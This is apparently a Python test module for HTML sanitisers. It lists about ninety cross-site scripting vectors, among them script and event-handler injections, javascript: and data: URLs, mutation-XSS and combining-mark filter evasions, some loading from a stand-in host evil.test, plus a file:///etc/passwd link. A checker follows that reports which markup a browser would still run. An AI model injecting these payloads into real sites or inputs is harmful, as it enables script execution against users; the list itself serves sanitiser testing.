"""Markup that tries to execute, and the code that a browser would still run after sanitising.

The vectors follow OWASP's cheat sheet for filter evasion and the regressions of DOMPurify and of nh3's engine.
"""

import re
from collections.abc import Collection
from html.parser import HTMLParser

VECTORS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<script/x>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1) ",
    "<img/src=x/onerror=alert(1)//>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<img src=`javascript:alert(1)`>",
    "<img dynsrc=javascript:alert(1)>",
    "<image src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=1em>x</text></a></svg>",
    "<svg><use href=data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x />",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<math href=javascript:alert(1)>x</math>",
    "<math><maction actiontype=statusline#x xlink:href=javascript:alert(1)>x</maction></math>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<template><script>alert(1)</script></template>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<textarea><p title='</textarea><script>alert(1)</script>'>",
    "<title><img src='</title><img src=x onerror=alert(1)>'>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<p style='background:url(javascript:1)' onclick=alert(1)>x</p>",
    "<p style=behavior:url(x.htc)>x</p>",
    '<p style="width:expression(alert(1))">x</p>',
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' jav\tascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java&#x09;script:alert(1)'>x</a>",
    "<a href='&#106;&#97;vascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61vascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>1</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href=x onmouseover=alert(1)>x</a>",
    "<a/onclick=alert(1)>x</a>",
    '<a href="x" "onclick=alert(1)">x</a>',
    "<a target=_self href=//evil.test onfocus=alert(1) autofocus>x</a>",
    "<iframe src=//evil.test></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset onload=alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x>",
    "<base href=//evil.test/>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<form><button formaction=javascript:alert(1)>x",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<input onfocus=alert(1) autofocus>",
    "<select onchange=alert(1)><option>x</select>",
    "<keygen onfocus=alert(1) autofocus>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<video poster=javascript:alert(1)></video>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<body background=javascript:alert(1)>",
    "<table background=javascript:alert(1)>",
    "<bgsound src=javascript:alert(1)>",
    "<layer src=//evil.test></layer>",
    "<br size=&{alert(1)}>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!--<img src=--><img src=x onerror=alert(1)//>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'javascript:alert(1)'>]>&y;",
    "<p><a href='x'><p><a href='javascript:alert(1)'>deep</a></p></a></p>",
    "<strong onclick=alert(1)>x</strong><em/onmouseover=alert(1)>y</em><u style=x>z</u>",
    "<x onclick=alert(1)>x</x>",
    "<custom-element onpointerenter=alert(1)>x",
    "%3Cscript%3Ealert(1)%3C/script%3E<script>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "<\x00script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞<script >alert(1)</script >",
    # Marks that NFC would join to the end of the tag before them.
    "<p>&#824; style=position:fixed;inset:0 onmouseover=alert(1) x=</p>",
    "<p>&#803;&#824; style=position:fixed;inset:0 onmouseover=alert(1) x=</p>",
    '<a href="https://x.test/">&#807;&#824;a onfocus=alert(1) autofocus tabindex=1 x=</a>',
)

_EXECUTING = frozenset(
    [
        "script",
        "style",
        "iframe",
        "frame",
        "frameset",
        "object",
        "embed",
        "applet",
        "base",
        "link",
        "meta",
        "form",
        "input",
        "button",
        "select",
        "textarea",
        "svg",
        "math",
        "template",
        "noscript",
        "video",
        "audio",
        "source",
        "image",
        "img",
        "body",
        "keygen",
        "isindex",
        "marquee",
        "details",
        "layer",
        "bgsound",
        "xmp",
    ]
)
_SCHEMES = ("http:", "https:", "mailto:")


class _Browser(HTMLParser):
    def __init__(self, taken: Collection[str]) -> None:
        super().__init__(convert_charrefs=True)
        self.taken = taken
        self.executed: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in _EXECUTING and tag not in self.taken:
            self.executed.append(f"<{tag}>")
        for name, value in attrs:
            address = "".join((value or "").split()).lower().strip("\x00\x01")
            # A letter, followed by scheme characters (https://url.spec.whatwg.org/#scheme-state); otherwise it is a
            # path.
            begins = re.match(r"[a-z][a-z0-9+.-]*:", address)
            scheme = begins[0] if begins else ""
            is_link = name in ("href", "src", "action", "formaction", "data", "poster", "background", "xlink:href")
            if name.startswith("on") or name in ("style", "srcdoc"):
                self.executed.append(f"{tag} {name}")
            elif is_link and scheme and scheme not in _SCHEMES:
                self.executed.append(f"{tag} {name}={value}")

    handle_startendtag = handle_starttag


def executed(markup: str, *, taken: Collection[str] = ()) -> list[str]:
    """Lists what a browser would run of it: alone, and before text that might complete an open tag.

    ``taken``: elements that are allowed here, whose attributes are still looked at.
    """
    found: list[str] = []
    for rest in ("", "\"'>x</p>", " x=1>"):
        browser = _Browser(taken)
        browser.feed(markup + rest)
        browser.close()
        found += browser.executed
    return found
